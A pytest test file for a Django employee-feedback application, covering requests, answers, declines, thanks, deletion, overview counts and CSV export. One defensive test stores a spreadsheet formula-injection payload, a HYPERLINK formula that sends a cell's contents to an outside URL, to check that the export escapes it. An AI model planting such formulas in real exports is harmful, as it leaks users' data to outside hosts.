"""Asking for feedback, answering or declining, giving it unasked, and what the receiver does
with it: thank, keep, share onward, delete."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy

from accounts.services import person_deactivate
from conftest import FROZEN_AT
from core.forms import LEFT, UNKNOWN_PERSON
from feedback.models import Feedback, FeedbackAsk, FeedbackRequest, Theme
from feedback.services import FeedbackError, feedback_give, feedback_request_create
from notifications.models import Notification
from organisation.models import Value

# Dates in these tests are the frozen clock's (conftest.py), so they pass on any day.
pytestmark = pytest.mark.usefixtures("clock")


def in_language(message, language):
    with translation.override(language):
        return str(message)


def _counts():
    return (
        FeedbackRequest.objects.count(),
        FeedbackAsk.objects.count(),
        Feedback.objects.count(),
        Notification.objects.count(),
    )


@pytest.fixture
def values(db):
    """Three of the organisation's values (the default catalogue has six)."""
    return list(Value.objects.filter(is_active=True)[:3])


def test_ask_answer_thank_keep(cast, client_for, values):
    alice, bob = client_for(cast.alice), client_for(cast.bob)
    response = alice.post(
        reverse("feedback:ask"),
        {
            "people": [cast.bob.pk, cast.lena.pk],
            "about": "Workshoppen i tirsdags",
            "questions": "Fik alle ordet?",
            "theme": Theme.PROJECT,
            "wished_by": (timezone.localdate() + timedelta(days=7)).isoformat(),
        },
    )
    request = FeedbackRequest.objects.get()
    assert response.status_code == 302 and response["Location"] == request.get_absolute_url()
    assert set(request.asks.values_list("person__username", flat=True)) == {"bob", "lena"}
    told = Notification.objects.filter(kind="feedback_request")
    assert set(told.values_list("recipient__username", flat=True)) == {"bob", "lena"}
    # bob sees the request and its questions on his page, and answers.
    html = bob.get("/").content.decode()
    assert request.get_absolute_url() in html
    html = bob.get(request.get_absolute_url()).content.decode()
    assert "Fik alle ordet?" in html
    response = bob.post(
        reverse("feedback:answer", args=[request.pk]),
        {"works_well": "Klar struktur", "even_better": "Flere pauser", "values": [values[0].pk]},
    )
    feedback = Feedback.objects.get()
    assert response["Location"] == feedback.get_absolute_url()
    assert (feedback.owner, feedback.giver, feedback.about, feedback.theme) == (
        cast.alice,
        cast.bob,
        "Workshoppen i tirsdags",
        Theme.PROJECT,
    )
    assert list(feedback.values.all()) == [values[0]]
    assert request.asks.get(person=cast.bob).status == FeedbackAsk.Status.ANSWERED
    assert Notification.objects.filter(recipient=cast.alice, kind="feedback_received").exists()
    # Answering twice is refused.
    bob.post(reverse("feedback:answer", args=[request.pk]), {"works_well": "Igen"})
    assert Feedback.objects.count() == 1
    # lena declines with a word; alice sees it.
    client_for(cast.lena).post(
        reverse("feedback:decline", args=[request.pk]), {"note": "Jeg var ikke med"}
    )
    html = alice.get(request.get_absolute_url()).content.decode()
    assert "Jeg var ikke med" in html and feedback.get_absolute_url() in html
    # alice thanks bob once, and keeps the feedback for her development.
    alice.post(reverse("feedback:thank", args=[feedback.pk]))
    alice.post(reverse("feedback:thank", args=[feedback.pk]))
    assert Notification.objects.filter(recipient=cast.bob, kind="feedback_thanks").count() == 1
    alice.post(reverse("feedback:keep", args=[feedback.pk]), {"kept": "1"})
    feedback.refresh_from_db()
    assert feedback.kept and feedback.thanked_at is not None
    assert feedback.get_absolute_url() in alice.get(reverse("feedback:overview")).content.decode()


def test_an_asked_person_sees_the_request_but_not_who_else_was_asked(cast, client_for):
    request = feedback_request_create(
        asker=cast.alice, people=[cast.bob, cast.lena], about="Notatet"
    )
    html = client_for(cast.bob).get(request.get_absolute_url()).content.decode()
    assert "Notatet" in html and "Lena" not in html
    # Someone not asked gets the same 404 as for a request that does not exist.
    assert client_for(cast.eve).get(request.get_absolute_url()).status_code == 404
    assert client_for(cast.ada).get(request.get_absolute_url()).status_code == 404


@pytest.mark.parametrize("language", ["da", "en"])
def test_asking_yourself_or_someone_who_left_changes_nothing(cast, client_for, language):
    client = client_for(cast.alice)
    client.cookies["django_language"] = language
    person_deactivate(actor=None, person=cast.lena, now=FROZEN_AT)
    before = _counts()
    for people, message in (
        ([cast.alice.pk], gettext_lazy("You cannot ask yourself.")),
        ([cast.lena.pk], LEFT),
        ([987654], UNKNOWN_PERSON),
        ([], gettext_lazy("Choose at least one person to ask.")),
    ):
        response = client.post(reverse("feedback:ask"), {"people": people, "about": "Mødet"})
        assert response.status_code == 200
        html = response.content.decode()
        assert in_language(message, language) in html, people
        # Nobody who left is named, not even on the chips of the people chosen.
        assert "Lena" not in html.split("<main", 1)[1], people
    assert _counts() == before
    # The service says the same to any other caller.
    with pytest.raises(FeedbackError):
        feedback_request_create(asker=cast.alice, people=[cast.alice], about="x")
    with pytest.raises(FeedbackError):
        feedback_request_create(asker=cast.alice, people=[cast.lena], about="x")
    assert _counts() == before


@pytest.mark.parametrize("language", ["da", "en"])
def test_empty_feedback_changes_nothing(cast, client_for, language):
    client = client_for(cast.bob)
    client.cookies["django_language"] = language
    before = _counts()
    response = client.post(
        reverse("feedback:give"),
        {"receiver": cast.alice.pk, "works_well": "  ", "even_better": ""},
    )
    assert response.status_code == 200
    from feedback.services import EMPTY_FEEDBACK

    assert in_language(EMPTY_FEEDBACK, language) in response.content.decode()
    request = feedback_request_create(asker=cast.alice, people=[cast.bob], about="Mødet")
    before = _counts()
    response = client.post(reverse("feedback:answer", args=[request.pk]), {"works_well": ""})
    assert in_language(EMPTY_FEEDBACK, language) in response.content.decode()
    assert _counts() == before
    with pytest.raises(FeedbackError):
        feedback_give(giver=cast.bob, receiver=cast.alice, works_well=" ", even_better="\n")
    with pytest.raises(FeedbackError):
        feedback_give(giver=cast.bob, receiver=cast.bob, works_well="Godt", even_better="")


def test_unasked_feedback_to_a_colleague(cast, client_for, values):
    response = client_for(cast.bob).post(
        reverse("feedback:give"),
        {
            "receiver": cast.alice.pk,
            "about": "Dokumentationen",
            "works_well": "Let at læse",
            "values": [values[1].pk],
            "theme": Theme.COMMUNICATION,
        },
    )
    feedback = Feedback.objects.get()
    assert response["Location"] == feedback.get_absolute_url()
    assert feedback.ask is None and feedback.owner == cast.alice
    # No numeric rating of a person exists anywhere in the model.
    numbers = [
        f.name
        for f in Feedback._meta.get_fields()
        if f.get_internal_type() in ("IntegerField", "PositiveSmallIntegerField", "FloatField")
    ]
    assert numbers == []


def test_deleting_removes_it_for_the_giver_too(cast, client_for):
    feedback = feedback_give(giver=cast.bob, receiver=cast.alice, works_well="Godt", even_better="")
    alice = client_for(cast.alice)
    assert alice.get(reverse("feedback:delete", args=[feedback.pk])).status_code == 200
    assert Feedback.objects.exists()  # the page asks first
    response = alice.post(reverse("feedback:delete", args=[feedback.pk]))
    assert response["Location"] == reverse("feedback:received")
    assert client_for(cast.bob).get(feedback.get_absolute_url()).status_code == 404


def test_overview_counts_by_value_theme_and_quarter_and_exports(cast, client_for, values):
    from recognition.services import recognition_create

    for theme in (Theme.PROJECT, Theme.PROJECT, ""):
        item = feedback_give(
            giver=cast.bob, receiver=cast.alice, works_well="Godt", even_better="", theme=theme
        )
        item.values.set([values[0]])
    recognition_create(
        author=cast.bob, recipients=[cast.alice], text="Tak!", values=values[:2], unit=cast.team
    )
    # Feedback alice gave counts on bob's overview, not hers.
    feedback_give(giver=cast.alice, receiver=cast.bob, works_well="Du", even_better="")
    from feedback.selectors import overview_for

    overview = overview_for(cast.alice, now=timezone.now())
    by_value = {row.label: (row.feedback, row.recognition) for row in overview["by_value"]}
    first, second, third = (value.name for value in values)
    assert (by_value[first], by_value[second], by_value[third]) == ((3, 1), (0, 1), (0, 0))
    assert sum(sum(counts) for counts in by_value.values()) == 5
    by_theme = {row.label: row.feedback for row in overview["by_theme"]}
    assert by_theme[str(Theme.PROJECT.label)] == 2 and sum(by_theme.values()) == 2
    assert overview["by_quarter"][-1].feedback == 3
    assert overview["by_quarter"][-1].recognition == 1
    assert (overview["feedback_total"], overview["recognition_total"]) == (3, 1)

    response = client_for(cast.alice).get(reverse("feedback:export"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1 + 3 + 1
    assert not any(cell == "Du" for row in rows for cell in row)


def test_the_feedback_pages_cost_a_fixed_number_of_queries(cast, client_for, values):
    client = client_for(cast.alice)
    pages = [
        reverse("feedback:index"),
        reverse("feedback:received"),
        reverse("feedback:overview"),
        reverse("feedback:sparring_list"),
    ]

    def queries():
        counts = []
        for url in pages:
            with CaptureQueriesContext(connection) as captured:
                assert client.get(url).status_code == 200
            counts.append(len(captured))
        return counts

    feedback_give(giver=cast.bob, receiver=cast.alice, works_well="Godt", even_better="")
    feedback_request_create(asker=cast.alice, people=[cast.bob], about="Mødet")
    queries()  # the first request of a session loads what later ones find cached
    few = queries()
    for _ in range(15):
        item = feedback_give(giver=cast.bob, receiver=cast.alice, works_well="x", even_better="")
        item.values.set(values)
        feedback_request_create(asker=cast.alice, people=[cast.bob, cast.lena], about="Mere")
    assert queries() == few
    assert few == [9, 4, 8, 2]


@pytest.mark.parametrize("url", ["feedback:ask", "feedback:give", "feedback:sparring_new"])
def test_someone_in_another_unit_can_be_chosen_with_the_picker(cast, client_for, url):
    html = client_for(cast.alice).get(reverse(url)).content.decode()
    assert 'role="combobox"' in html and reverse("accounts:people_search") in html
    # Without JavaScript the picker is the list of one's colleagues.
    assert "Bob Bertelsen" in html and "Eve Eriksen" not in html


def test_asking_someone_in_another_unit(cast, client_for):
    response = client_for(cast.alice).post(
        reverse("feedback:ask"), {"people": [cast.eve.pk], "about": "Budgettet"}
    )
    assert response.status_code == 302
    assert [ask.person for ask in FeedbackAsk.objects.all()] == [cast.eve]


def test_people_are_chosen_by_their_id_whatever_its_size(cast, client_for):
    """A form's values are ids, never numbers formatted for reading ("123.456")."""
    from accounts.models import User
    from organisation.models import Membership

    big = User.objects.create(pk=123456, username="stor", first_name="Stor")
    Membership.objects.create(user=big, unit=cast.team)
    html = client_for(cast.alice).get(reverse("feedback:ask")).content.decode()
    assert 'value="123456"' in html


def test_the_export_never_holds_a_formula(cast, client_for):
    feedback_give(
        giver=cast.bob,
        receiver=cast.alice,
        works_well='=HYPERLINK("https://example.org/?d="&H3;"Læs mere")',
        even_better="+1",
        about="@alle",
    )
    response = client_for(cast.alice).get(reverse("feedback:export"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    assert "'=HYPERLINK(" in " ".join(cells)


def test_only_the_person_asked_can_decline(cast):
    from feedback.services import feedback_ask_decline

    request = feedback_request_create(asker=cast.alice, people=[cast.bob], about="Mødet")
    with pytest.raises(FeedbackError):
        feedback_ask_decline(ask=request.asks.get(), by=cast.lena)
    assert request.asks.get().status == FeedbackAsk.Status.PENDING
